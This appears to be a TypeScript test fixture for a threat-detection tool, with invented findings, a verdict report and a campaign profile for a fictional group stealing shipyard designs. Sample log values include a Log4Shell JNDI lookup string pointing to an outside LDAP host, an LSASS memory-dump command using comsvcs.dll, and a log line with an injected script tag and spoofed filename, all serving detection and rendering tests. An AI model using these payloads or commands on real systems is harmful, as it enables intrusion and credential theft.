import { ANSWER_VERSION, CAMPAIGN_VERSION, FINDING_VERSION } from "@tocsin/model";
import type { Answer, Campaign, Citation, Finding, LedgerSource } from "@tocsin/model";

// Everything here is invented; addresses and names are those reserved for documentation.

const cite = (line: number, passage: string): Citation => ({
  document: "harbour-lantern.md",
  line,
  passage,
});

const sha = "3f0a".repeat(16);

function finding(
  n: number,
  host: string | undefined,
  firstSeen: string | undefined,
  detection: Partial<Finding["detection"]> & { title: string },
  more: Partial<Finding> = {},
): Finding {
  return {
    version: FINDING_VERSION,
    id: `00000000-0000-5000-8000-${String(n).padStart(12, "0")}`,
    detection: {
      id: `d-${n}`,
      kind: "sigma",
      level: "high",
      strength: "behaviour",
      techniques: [],
      vulnerabilities: [],
      falsePositives: [],
      ...detection,
    },
    ...(host !== undefined && { host }),
    matched: [],
    count: 1,
    ...(firstSeen !== undefined && { firstSeen, lastSeen: firstSeen }),
    occurrences: [],
    citations: [],
    ...more,
  };
}

const sysmon = (eventId: number, records: number): LedgerSource => ({
  source: `Microsoft-Windows-Sysmon/Operational ${eventId}`,
  format: "evtx",
  product: "windows",
  channel: "Microsoft-Windows-Sysmon/Operational",
  provider: "Microsoft-Windows-Sysmon",
  eventId,
  records,
  timeless: 0,
  first: "2024-03-01T06:00:11.000Z",
  last: "2024-03-07T19:42:00.000Z",
  hours: 131,
});

export const sampleFindings: readonly Finding[] = [
  finding(
    1,
    "ENG-WS-014.yards.example",
    "2024-03-04T22:17:05.000Z",
    {
      title: "SHA-256 of the loader LANTERNFISH",
      kind: "indicator",
      level: "critical",
      strength: "strong",
      observable: { type: "sha256", value: sha },
    },
    {
      count: 4,
      lastSeen: "2024-03-05T01:40:31.000Z",
      matched: [
        {
          field: "Hashes",
          value: `MD5=${"9c11".repeat(8)},SHA256=${sha.toUpperCase()},IMPHASH=${"0f3a".repeat(8)}`,
          test: `bears sha256 ${sha}`,
        },
      ],
      occurrences: [
        {
          place: {
            file: "evidence/eng-ws-014/Sysmon.evtx",
            offsetBytes: 1_183_744,
            recordId: "48211",
          },
          time: "2024-03-04T22:17:05.000Z",
          source: "Microsoft-Windows-Sysmon/Operational 1",
        },
      ],
      citations: [
        cite(88, `The loader LANTERNFISH (SHA-256 ${sha}) is written to C:\\ProgramData.`),
      ],
    },
  ),
  finding(
    2,
    "gw01.yards.example",
    "2024-03-04T21:58:40.000Z",
    {
      title: "Command and control domain update.lantern.example",
      kind: "indicator",
      level: "high",
      strength: "strong",
      observable: { type: "domain", value: "update.lantern.example" },
    },
    {
      count: 61,
      lastSeen: "2024-03-06T03:12:00.000Z",
      matched: [
        {
          field: "line",
          value:
            'query: 2024-03-04 client 198.51.100.24 "stage2.update.lantern.example" IN A <img src=x onerror=alert(1)> \u001b[2J\u202egnp.exe',
          test: "bears domain update.lantern.example",
        },
      ],
      occurrences: [
        {
          place: { file: "evidence/gw01/dns.log.gz", line: 20_417 },
          time: "2024-03-04T21:58:40.000Z",
          source: "text",
        },
      ],
      citations: [cite(41, "The actors used update[.]lantern[.]example for command and control.")],
    },
  ),
  finding(
    3,
    "ENG-WS-014.yards.example",
    "2024-03-04T22:19:44.000Z",
    {
      title: "LSASS memory dumped with comsvcs.dll",
      techniques: ["T1003.001"],
      falsePositives: ["Rare; some support tools dump LSASS on purpose"],
      origin: { file: "rules/proc_creation_win_lsass_dump.yml", line: 1 },
    },
    {
      matched: [
        {
          field: "Image",
          value: "C:\\Windows\\System32\\rundll32.exe",
          test: 'ends with "\\rundll32.exe"',
        },
        {
          field: "CommandLine",
          value: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 708 C:\\ProgramData\\${"A".repeat(140)}.bin full`,
          test: 'contains "comsvcs" and contains "MiniDump"',
        },
      ],
      occurrences: [
        {
          place: { file: "evidence/eng-ws-014/Sysmon.evtx", recordId: "48260" },
          time: "2024-03-04T22:19:44.000Z",
          source: "Microsoft-Windows-Sysmon/Operational 1",
        },
      ],
    },
  ),
  finding(
    4,
    "web02.yards.example",
    "2024-03-02T10:04:12.000Z",
    {
      title: "JNDI lookup in a request",
      techniques: ["T1190"],
      vulnerabilities: ["CVE-2021-44228"],
    },
    {
      count: 12,
      lastSeen: "2024-03-04T20:31:09.000Z",
      matched: [
        {
          field: "cs-user-agent",
          value: "${jndi:ldap://203.0.113.77:1389/a}",
          test: 'contains "${jndi:"',
        },
      ],
      occurrences: [
        {
          place: { file: "evidence/web02/access.log", line: 9112 },
          time: "2024-03-02T10:04:12.000Z",
          source: "web-access",
        },
      ],
    },
  ),
  finding(5, "ENG-WS-003.yards.example", "2024-03-06T08:30:00.000Z", {
    title: "Scheduled task created from the command line",
    level: "low",
    techniques: ["T1053.005"],
  }),
  finding(6, undefined, undefined, { title: "Listing of local groups", level: "informational" }),
];

export const sampleAnswer: Answer = {
  version: ANSWER_VERSION,
  tool: { name: "tocsin", version: "0.1.0" },
  campaigns: [
    {
      id: "00000000-0000-5000-8000-0000000000aa",
      title: "Harbour Lantern: theft of hull designs from shipyards",
      documents: [{ name: "harbour-lantern.md", format: "markdown", sha256: "00".repeat(32) }],
      issuers: ["Invented Centre for Maritime Security", "Example CSIRT"],
      actors: ["Harbour Lantern"],
      published: "2024-03-20T00:00:00.000Z",
      tlp: "CLEAR",
      counts: { indicators: 34, techniques: 6, vulnerabilities: 3 },
    },
  ],
  window: { since: "2024-03-01T00:00:00.000Z", until: "2024-03-08T00:00:00.000Z" },
  verdict: {
    value: "hit",
    summary:
      "2 findings match what the warning itself names, on ENG-WS-014.yards.example and gw01.yards.example.",
    reasons: [
      "SHA-256 of the loader LANTERNFISH on ENG-WS-014.yards.example: 4 records, first 2024-03-04 22:17 UTC.",
      "Command and control domain update.lantern.example on gw01.yards.example: 61 records, first 2024-03-04 21:58 UTC.",
      "2 findings of suspicious weight beside.",
      "2 other findings of lower weight are listed and did not move the verdict.",
    ],
    limits: [
      "A match shows that a value the warning names stands in a record. Whether an intrusion succeeded, a person must examine.",
      "It speaks of the evidence given (5 files, 184,022 records, 6 hosts), not of systems whose records are not among it.",
      "15 of 49 detections could not have matched: the evidence lacks Sysmon event 3 (network connection), PowerShell script block logs (4104) and mail logs.",
      "17 records could not be decoded and were not looked at.",
      "37 of 168 hours hold no record at all.",
    ],
  },
  questions: {
    exposed: {
      status: "not-asked",
      toAsk:
        "This version does not read inventories. By hand: compare the products below with what you run, and with what you ran while the actors were active; begin with what the internet can reach.",
      points: [
        {
          text: "1 finding came from rules for a vulnerability: someone tried it here.",
          details: ["CVE-2021-44228: JNDI lookup in a request on web02.yards.example"],
        },
        {
          text: "2 vulnerabilities exploited by the actors.",
          details: ["CVE-2021-44228: Apache Log4j 2", "CVE-2023-46604: Apache ActiveMQ"],
          citations: [cite(23, "The actors exploit Log4j and ActiveMQ.")],
        },
      ],
    },
    hit: {
      status: "asked",
      answer:
        "2 findings match what the warning itself names, on ENG-WS-014.yards.example and gw01.yards.example.",
      points: [
        {
          text: "ENG-WS-014.yards.example: 2 findings, from 2024-03-04 22:17 UTC to 2024-03-05 01:40 UTC.",
          details: [
            "2024-03-04 22:17 UTC: SHA-256 of the loader LANTERNFISH (named by the warning, critical, 4 records)",
            "2024-03-04 22:19 UTC: LSASS memory dumped with comsvcs.dll (suspicious, high, 1 record)",
          ],
          citations: [cite(88, "The loader LANTERNFISH")],
        },
        {
          text: "gw01.yards.example: 1 finding, from 2024-03-04 21:58 UTC to 2024-03-06 03:12 UTC.",
          details: [
            "2024-03-04 21:58 UTC: Command and control domain update.lantern.example (named by the warning, high, 61 records)",
          ],
        },
      ],
    },
    sought: {
      status: "not-asked",
      toAsk:
        "This version does not look through documents. By hand: find where you hold what is listed here, who can read it, and whether it left.",
      points: [
        {
          text: "Information sought, sector shipbuilding:",
          details: [
            "hull designs",
            "propulsion",
            "sonar",
            "welding procedures",
            "acoustic signatures",
            "supplier lists",
            "tenders",
            "sea trial reports",
          ],
          citations: [cite(12, "They seek hull designs and acoustic signatures.")],
        },
      ],
    },
    unseen: {
      status: "asked",
      answer:
        "68 % of what the warning describes would have been visible: 34 of 49 detections. Records cover 131 of 168 hours.",
      points: [
        {
          text: "Evidence that is missing, the most useful first:",
          details: [
            "Sysmon event 3 (network connection): would serve 9 detections",
            "PowerShell script block logs (4104): would serve 4 detections",
            "mail logs: would serve 2 detections",
          ],
        },
        {
          text: "1 file could not be read in full:",
          details: [
            "evidence/eng-ws-003/Security.evtx: 17 records damaged, chunk 4 has a wrong checksum",
          ],
        },
      ],
    },
    next: {
      status: "asked",
      answer:
        "Treat this as an incident until someone has shown otherwise: keep the evidence, tell those who can help, then block.",
      points: [
        {
          text: "Preserve the evidence before anyone cleans up: 3 files and the hosts ENG-WS-014.yards.example and gw01.yards.example.",
          details: ["evidence/eng-ws-014/Sysmon.evtx", "evidence/gw01/dns.log.gz"],
        },
        {
          text: "Tell your incident response, and your national CSIRT or the authority that is competent for you.",
        },
        {
          text: "Block what the warning names (12 domain and 22 sha256), after vetting it: addresses change hands, and shared services carry innocent traffic.",
        },
      ],
    },
  },
  findings: sampleFindings,
  visibility: {
    sources: [
      sysmon(1, 91_204),
      sysmon(11, 40_118),
      {
        source: "web-access",
        format: "web-access",
        category: "webserver",
        records: 31_000,
        timeless: 0,
        first: "2024-03-01T00:00:04.000Z",
        last: "2024-03-07T23:59:58.000Z",
        hours: 131,
      },
      { source: "text", format: "text", records: 21_700, timeless: 12, hours: 120 },
    ],
    first: "2024-03-01T00:00:04.000Z",
    last: "2024-03-07T23:59:58.000Z",
    hoursCovered: 131,
    hoursTotal: 168,
    gaps: [{ from: "2024-03-02T19:00:00.000Z", to: "2024-03-04T08:00:00.000Z" }],
    total: 49,
    couldMatch: 34,
    percent: 68,
    byKind: [
      { of: "indicator", total: 34, couldMatch: 25 },
      { of: "sigma", total: 15, couldMatch: 9 },
      { of: "domain", total: 12, couldMatch: 12 },
      { of: "sha256", total: 22, couldMatch: 13 },
    ],
    byTechnique: [
      { of: "T1003.001", total: 5, couldMatch: 5 },
      { of: "T1053.005", total: 4, couldMatch: 2 },
      { of: "T1059.001", total: 4, couldMatch: 0 },
      { of: "T1190", total: 2, couldMatch: 2 },
      { of: "T1657", total: 0, couldMatch: 0 },
    ],
    unseen: [
      {
        id: "d-9",
        title: "PowerShell download",
        kind: "sigma",
        needs: ["PowerShell script block logs (4104)"],
      },
    ],
    missing: [
      { needs: "Sysmon event 3 (network connection)", detections: 9 },
      { needs: "PowerShell script block logs (4104)", detections: 4 },
      { needs: "mail logs", detections: 2 },
    ],
  },
  ledger: {
    files: [
      {
        file: "evidence/eng-ws-014/Sysmon.evtx",
        sizeBytes: 71_307_264,
        format: "evtx",
        status: "read",
        records: 91_204,
        damaged: 0,
        outsideWindow: 0,
        diagnostics: [],
        diagnosticCount: 0,
      },
      {
        file: "evidence/eng-ws-003/Security.evtx",
        sizeBytes: 21_041_152,
        format: "evtx",
        status: "partly",
        records: 40_118,
        damaged: 17,
        outsideWindow: 0,
        diagnostics: [
          {
            severity: "warning",
            code: "EVTX_CHUNK_CHECKSUM",
            message: "Chunk 4 has a wrong checksum; its records were read as far as they hold.",
          },
        ],
        diagnosticCount: 1,
      },
      {
        file: "evidence/gw01/dns.log.gz",
        sizeBytes: 2_300_110,
        format: "text+gzip",
        status: "read",
        records: 21_700,
        damaged: 0,
        outsideWindow: 0,
        diagnostics: [],
        diagnosticCount: 0,
      },
    ],
    sources: [],
    records: 184_022,
    damaged: 17,
    outsideWindow: 340,
    sizeBytes: 94_648_526,
    hosts: ["ENG-WS-003.yards.example", "ENG-WS-014.yards.example", "gw01.yards.example"],
    first: "2024-03-01T00:00:04.000Z",
    last: "2024-03-07T23:59:58.000Z",
    hours: 131,
    gaps: [{ from: "2024-03-02T19:00:00.000Z", to: "2024-03-04T08:00:00.000Z" }],
    partial: false,
  },
  rules: {
    loaded: 2380,
    byKind: { indicator: 34, sigma: 2346 },
    refused: [
      {
        severity: "error",
        code: "SIGMA_MODIFIER_UNKNOWN",
        message: "Unknown modifier `fuzzy`.",
        place: { file: "rules/own.yml", line: 14, column: 5 },
        remedy: "Use one of Sigma 2.1's modifiers.",
      },
    ],
  },
  diagnostics: [],
  partial: false,
};

export const sampleCampaign: Campaign = {
  version: CAMPAIGN_VERSION,
  id: "00000000-0000-5000-8000-0000000000aa",
  title: "Harbour Lantern: theft of hull designs from shipyards",
  summary: "An invented group steals designs from shipyards and sells them.",
  documents: [{ name: "harbour-lantern.md", format: "markdown", sha256: "00".repeat(32) }],
  issuers: [{ name: "Example CSIRT", citations: [] }],
  published: "2024-03-20T00:00:00.000Z",
  tlp: "CLEAR",
  actors: [
    {
      name: "Harbour Lantern",
      aliases: [{ name: "QUAY MOTH", relation: "overlaps", by: "Example Research", citations: [] }],
      citations: [cite(3, "a group known as Harbour Lantern")],
    },
  ],
  software: [
    {
      name: "LANTERNFISH",
      kind: "malware",
      aliases: [],
      citations: [cite(88, "the loader LANTERNFISH")],
    },
  ],
  techniques: [
    { id: "T1190", name: "Exploit Public-Facing Application", citations: [cite(20, "T1190")] },
  ],
  vulnerabilities: [
    {
      id: "CVE-2021-44228",
      status: "exploited",
      product: "Apache Log4j 2",
      citations: [cite(23, "Log4j")],
    },
  ],
  indicators: [
    {
      id: "i-1",
      observable: { type: "domain", value: "update.lantern.example" },
      labels: [],
      role: "command-and-control",
      malware: ["LANTERNFISH"],
      citations: [cite(41, "update[.]lantern[.]example")],
    },
    {
      id: "i-2",
      observable: { type: "sha256", value: sha },
      labels: [],
      malware: [],
      citations: [cite(88, sha)],
    },
    {
      id: "i-3",
      pattern: { language: "yara", text: "rule lantern { condition: false }" },
      labels: [],
      malware: [],
      citations: [],
    },
  ],
  context: [
    {
      observable: { type: "domain", value: "csirt.example" },
      reason: "the issuer's own site",
      citations: [],
    },
  ],
  sectors: [{ text: "shipbuilding", citations: [cite(5, "shipyards")] }],
  countries: [],
  sought: [
    {
      sector: "shipbuilding",
      kind: "topic",
      information: "hull designs",
      citations: [cite(12, "hull designs")],
    },
  ],
  cautions: [],
  frameworks: [],
  rules: [],
  order: [],
  revisions: [],
  mitigations: [{ text: "Patch Log4j.", citations: [cite(120, "Patch Log4j.")] }],
  references: [{ url: "https://csirt.example/harbour-lantern", citations: [] }],
  diagnostics: [],
};
